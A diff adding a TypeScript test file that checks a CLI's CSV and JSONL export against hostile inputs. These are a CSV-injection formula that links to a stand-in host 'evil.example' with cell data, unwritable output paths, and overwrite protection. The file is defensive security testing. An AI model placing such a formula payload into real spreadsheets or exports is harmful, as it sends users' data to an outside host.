@@ -1,0 +1,72 @@
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import type { Client } from '@elastic/elasticsearch';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createEsClient } from '../../src/es/client';
+import { indexName } from '../../src/es/indices';
+import { runCli } from '../support/cli-process';
+import { seedSyntheticRun } from '../support/synthetic-run';
+import { deleteIndicesWithPrefix, SHARED_DATA, uniqueName } from '../support/test-env';
+
+const FEVER = path.join(SHARED_DATA, 'dev', 'fever.jsonl');
+const HOSTILE_CLAIM = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+
+/** `verity export` with hostile cell contents and output paths, as its own process on real Elasticsearch. */
+describe('verity export against hostile inputs', () => {
+  let client: Client;
+  const prefix = uniqueName('export-hostile');
+  const runId = 'hostile-run';
+  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'verity-export-hostile-'));
+  const env = { ES_URL: process.env.ES_URL ?? 'http://127.0.0.1:9200', ES_INDEX_PREFIX: prefix };
+
+  beforeAll(async () => {
+    client = createEsClient({ url: env.ES_URL });
+    await seedSyntheticRun(client, prefix, { runId, datasets: [{ name: 'fever', file: FEVER, sample: 3 }], methods: ['rag'], models: ['gpt-4o-mini'] });
+    const verdicts = indexName(prefix, 'verdicts');
+    const stored = (await client.search<Record<string, unknown>>({ index: verdicts, size: 1, query: { term: { runId } } })).hits.hits[0]!._source!;
+    await client.index({ index: verdicts, id: 'hostile', document: { ...stored, workflowId: 'hostile', claimId: '@SUM(A1)', claim: HOSTILE_CLAIM }, refresh: 'wait_for' });
+  });
+
+  afterAll(async () => {
+    await deleteIndicesWithPrefix(client, prefix);
+    await client.close();
+    fs.rmSync(tmp, { recursive: true, force: true });
+  });
+
+  it('writes formula-like cells with a leading quote (CSV injection)', async () => {
+    const out = path.join(tmp, 'run.csv');
+    const result = await runCli(['export', runId, '--format', 'csv', '--out', out], env);
+    expect(result.code, result.stderr).toBe(0);
+    const csv = fs.readFileSync(out, 'utf8');
+    expect(csv).toContain(`"'${HOSTILE_CLAIM.replace(/"/g, '""')}"`);
+    expect(csv).toContain(",'@SUM(A1),");
+    expect(csv.split('\n').flatMap((line) => line.split(',')).filter((cell) => /^"?[=+@]/.test(cell))).toEqual([]);
+  });
+
+  it.each([
+    ['a missing folder', () => path.join(tmp, 'missing', 'run.csv')],
+    ['a directory', () => tmp],
+    ['a full device', () => '/dev/full'],
+  ])('says in one line that it cannot write to %s', async (_, target) => {
+    for (const format of ['csv', 'jsonl']) {
+      const result = await runCli(['export', runId, '--format', format, '--out', target()], env);
+      expect(result.code).not.toBe(0);
+      expect(result.stderr.trim().split('\n'), result.stderr).toHaveLength(1);
+      expect(result.stderr).toMatch(/^verity: cannot write /);
+      expect(result.stderr).not.toMatch(/\n\s+at /);
+    }
+  });
+
+  it('refuses to overwrite an existing file without --force', async () => {
+    const out = path.join(tmp, 'existing.jsonl');
+    fs.writeFileSync(out, 'precious\n');
+    const refused = await runCli(['export', runId, '--format', 'jsonl', '--out', out], env);
+    expect(refused.code).toBe(2);
+    expect(refused.stderr).toMatch(/exists.*--force/);
+    expect(fs.readFileSync(out, 'utf8')).toBe('precious\n');
+    const forced = await runCli(['export', runId, '--format', 'jsonl', '--out', out, '--force'], env);
+    expect(forced.code, forced.stderr).toBe(0);
+    expect(fs.readFileSync(out, 'utf8').trim().split('\n')).toHaveLength(4);
+  });
+});
